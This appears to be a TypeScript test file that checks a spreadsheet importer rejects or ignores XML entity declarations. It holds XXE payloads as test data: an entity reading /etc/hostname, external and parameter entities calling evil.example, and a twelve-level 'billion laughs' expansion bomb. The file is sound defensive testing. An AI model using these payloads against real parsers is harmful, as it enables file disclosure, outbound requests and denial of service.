/** Goal: a register's XML names nothing that is read in or grows (entities). Method: workbooks that declare what a careless reader would follow. */
import { describe, expect, test } from 'vitest';
import { readWorkbook } from '#register-import/read-workbook.ts';
import { packZip, workbookFiles } from '../import/support/workbooks.ts';

const SHEET = 'xl/worksheets/sheet1.xml';
const SECRET = 'BÍ MẬT TỪ NGOÀI';
const laughs = Array.from({ length: 12 }, (_, n) => `<!ENTITY l${n + 1} "${`&l${n};`.repeat(10)}">`).join('');

/** A good workbook whose sheet declares entities, and has one of them for a name. */
const sheetWith = (declared: string, used: string): Uint8Array => {
  const files = workbookFiles([{ name: 'A', rows: [['Họ và tên'], ['THẾ-CHỖ']] }]).map((file) => {
    if (file.path !== SHEET) return file;
    const xml = String(file.content).replace(/^(<\?xml[^>]*\?>)?/, `$1<!DOCTYPE worksheet [${declared}]>`);
    expect(xml).toContain('THẾ-CHỖ');
    return { ...file, content: xml.replace('THẾ-CHỖ', used) };
  });
  return packZip(files);
};

describe('a workbook with entities', () => {
  test.each([
    ['of its own', `<!ENTITY l0 "${SECRET}">`, '&l0;'],
    ['that are files', '<!ENTITY l0 SYSTEM "file:///etc/hostname">', '&l0;'],
    ['that are addresses', '<!ENTITY l0 SYSTEM "https://evil.example/x">', '&l0;'],
    ['that grow without end', `<!ENTITY l0 "${SECRET}">${laughs}`, '&l12;'],
    ['in parameters', '<!ENTITY % l0 SYSTEM "https://evil.example/x"> %l0;', 'x'],
  ])('%s is refused, or read as it is spelt', async (_, declared, used) => {
    const read = await readWorkbook(sheetWith(declared, used), 'so-ho.xlsx');
    const text = JSON.stringify(read);
    expect(text).not.toContain(SECRET);
    expect(text.length).toBeLessThan(2000);
    expect(read.ok ? text : `${read.error.type}: ${used}`).toContain(used);
  });
});
